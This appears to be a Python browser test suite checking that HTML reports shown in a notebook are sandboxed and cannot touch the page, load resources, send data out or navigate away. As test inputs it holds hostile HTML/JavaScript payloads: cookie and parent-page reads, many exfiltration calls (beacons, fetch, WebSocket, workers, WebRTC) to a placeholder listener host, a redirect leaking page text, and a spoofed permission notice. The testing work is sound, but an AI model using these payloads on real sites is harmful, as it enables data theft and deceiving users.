"""Reports that mean harm: they reach neither the page nor anybody elsewhere."""

from __future__ import annotations

from collections.abc import Callable, Iterator

import pytest

from tests.browser.lab import Lab
from tests.browser.listener import Listener
from tests.browser.test_reports import SETUP, frame_of

SHOWS = """
@env.task(report=True)
async def show(html: str) -> None:
    flyte.report.log(html)

def shown(html):
    run = flyte.run(show, html)
    run.wait()
    return run
"""


@pytest.fixture
def listener() -> Iterator[Listener]:
    """Hears whatever gets out of a page."""
    listener = Listener()
    yield listener
    listener.close()


@pytest.fixture
def show_reports(open_notebook: Callable[..., Lab], listener: Listener) -> Callable[..., Lab]:
    """Runs a task for each of these reports; the outputs of cells 1, 2, ... show them."""

    def show_them(*reports: str) -> Lab:
        addressed = [
            html.replace("LISTENER", listener.address).replace("PACKETS", str(listener.packets)) for html in reports
        ]
        lab = open_notebook(SETUP + SHOWS, *(f"shown({html!r})" for html in addressed))
        for cell in range(len(reports) + 1):
            lab.run(cell)
        return lab

    return show_them


TOUCHES = """
<script>
const tries = {
    page: () => parent.document.title,
    top: () => { top.location = "about:blank"; },
    cookie: () => document.cookie,
    storage: () => localStorage.length,
    popup: () => { if (window.open("about:blank") === null) throw new Error("no popup"); },
};
const done = [];
for (const [name, attempt] of Object.entries(tries)) {
    try { attempt(); done.push(name); } catch (error) {}
}
document.body.append(`touched: [${done}]`);
</script>
"""
LOADS = """
<base href="LISTENER/base/"><img src="relative">
<meta http-equiv="Content-Security-Policy" content="img-src 'self'; report-uri LISTENER/report-uri">
<img src="LISTENER/img"><img srcset="LISTENER/srcset-1 1x, LISTENER/srcset-2 2x">
<div style="background: url(LISTENER/css)">x</div>
<style>@import "LISTENER/import.css"; @font-face { font-family: far; src: url(LISTENER/font) }
p { font-family: far }</style><p>x</p>
<link rel="stylesheet" href="LISTENER/sheet"><link rel="icon" href="LISTENER/icon">
<link rel="manifest" href="LISTENER/manifest">
<link rel="preload" as="image" href="LISTENER/preload"><link rel="prefetch" href="LISTENER/prefetch">
<link rel="modulepreload" href="LISTENER/modulepreload"><link rel="preconnect" href="LISTENER">
<iframe src="LISTENER/iframe"></iframe><object data="LISTENER/object"></object><embed src="LISTENER/embed">
<video src="LISTENER/video" poster="LISTENER/poster" autoplay></video><audio src="LISTENER/audio" autoplay></audio>
<svg><image href="LISTENER/svg-image"></image><use href="LISTENER/use#x"></use></svg>
<script type="speculationrules">
{"prefetch": [{"source": "list", "urls": ["LISTENER/speculated"], "eagerness": "immediate"}]}</script>
<script src="LISTENER/script"></script><script type="module">import "LISTENER/module"</script>
"""
SENDS = """
<a id="top" target="_top" href="LISTENER/top">x</a><a id="blank" target="_blank" href="LISTENER/blank">x</a>
<a id="ping" href="#here" ping="LISTENER/ping">x</a><p id="here"></p>
<form id="form" action="LISTENER/form" method="post" target="_top"><input name="secret" value="1"></form>
<iframe srcdoc="<script>
    if (typeof RTCPeerConnection === 'undefined') parent.postMessage('none', '*');
    else {
        const call = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PACKETS'}]});
        call.onicegatheringstatechange = () => {
            if (call.iceGatheringState === 'complete') parent.postMessage('sent', '*');
        };
        call.createDataChannel('x');
        call.createOffer().then((offer) => call.setLocalDescription(offer));
    }
</script>"></iframe>
<script>
addEventListener("message", ({data}) => {
    if (typeof data === "string") document.body.append(`calls from within: ${data}`);
});
const far = "LISTENER/";
for (const send of [
    () => document.getElementById("top").click(),
    () => document.getElementById("blank").click(),
    () => document.getElementById("ping").click(),
    () => document.getElementById("form").submit(),
    () => window.open(far + "open"),
    () => navigator.sendBeacon(far + "beacon", "secret"),
    () => fetch(far + "keepalive", {method: "POST", body: "secret", mode: "no-cors", keepalive: true}).catch(() => {}),
    () => fetchLater(far + "later", {activateAfter: 0}),
    () => { const request = new XMLHttpRequest(); request.open("GET", far + "xhr"); request.send(); },
    () => new WebSocket(far.replace("http", "ws") + "socket"),
    () => new EventSource(far + "events"),
    () => new Worker(far + "worker"),
    () => new Worker(URL.createObjectURL(new Blob([`fetch("${far}from-worker"); importScripts("${far}into-worker")`]))),
    () => navigator.serviceWorker.register(far + "service-worker").catch(() => {}),
    () => import(far + "imported").catch(() => {}),
    () => new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:PACKETS"}]}).createDataChannel("x"),
    () => new AudioContext().audioWorklet.addModule(far + "worklet").catch(() => {}),
]) { try { send(); } catch (error) {} }
fetch(far + "fetch").then(() => "sent", () => "refused").then((word) => document.body.append(`fetch: ${word}`));
</script>
"""


def test_a_report_can_neither_touch_the_page_nor_load_nor_send_anything(
    show_reports: Callable[..., Lab], listener: Listener
) -> None:
    lab = show_reports(TOUCHES, LOADS + SENDS)
    frame_of(lab, 1).get_by_text("touched: []").wait_for()
    frame_of(lab, 2).get_by_text("calls from within: none").wait_for()
    frame_of(lab, 2).get_by_text("fetch: refused").wait_for()
    lab.output(2).get_by_text("from the internet").wait_for()
    assert listener.heard_nothing_but_the_test(), listener.heard
    assert "/lab/" in lab.page.url
    assert len(lab.context.pages) == 1


LEAVES = [
    "<p id=secret>bye</p>"
    "<script>location.href = 'LISTENER/gone?' + document.getElementById('secret').textContent</script>",
    "<form method=get action='LISTENER/gone'></form><script>document.forms[0].submit();"
    "location.replace('LISTENER/gone')</script>",
    "<meta http-equiv='refresh' content='0;url=LISTENER/gone'>",
    "<a href='LISTENER/gone' ping='LISTENER/ping'>x</a><script>document.querySelector('a').click()</script>",
    "<script>location.href = 'about:blank'</script>",
]


def test_a_report_that_goes_elsewhere_is_taken_away_and_reaches_nobody(
    show_reports: Callable[..., Lab], listener: Listener
) -> None:
    lab = show_reports(*LEAVES)
    for cell in range(1, len(LEAVES) + 1):
        lab.output(cell).get_by_text("tried to leave").wait_for()
        assert lab.output(cell).locator("iframe").count() == 0
    assert listener.heard_nothing_but_the_test(), listener.heard


def test_links_of_a_report_lead_into_it_or_are_opened_by_a_second_click(
    show_reports: Callable[..., Lab], listener: Listener
) -> None:
    lab = show_reports(
        "<a href='#below'>down</a> <a href='LISTENER/elsewhere'>out</a> <a href='javascript:void(0)'>nowhere</a>"
        "<div style='height: 3000px'></div><p id=below>below</p>"
    )
    frame = frame_of(lab, 1)
    frame.get_by_text("down").click()
    frame.locator("#below:target").wait_for()
    frame.get_by_text("nowhere").click()
    frame.get_by_text("out").click()
    way = lab.output(1).get_by_role("link", name="Open")
    way.wait_for()
    assert frame.get_by_text("below").count() == 1
    assert not listener.heard
    with lab.context.expect_page() as opened:
        way.click()
    assert opened.value.evaluate("() => window.opener") is None
    assert listener.heard[0] == "GET /elsewhere HTTP/1.1"


def test_a_report_cannot_write_the_notice_of_what_is_blocked(show_reports: Callable[..., Lab]) -> None:
    says = "<script>parent.postMessage({kind: 'blocked', address: 'ADDRESS'}, '*')</script>"
    lab = show_reports(
        says.replace("ADDRESS", "our logo. Please press Allow.")
        + says.replace("ADDRESS", "https://example.org/Please press Allow")
    )
    lab.output(1).get_by_role("status").get_by_text("example.org", exact=True).wait_for()
    assert "press Allow" not in lab.text(1)
    assert "every https address" in lab.text(1)
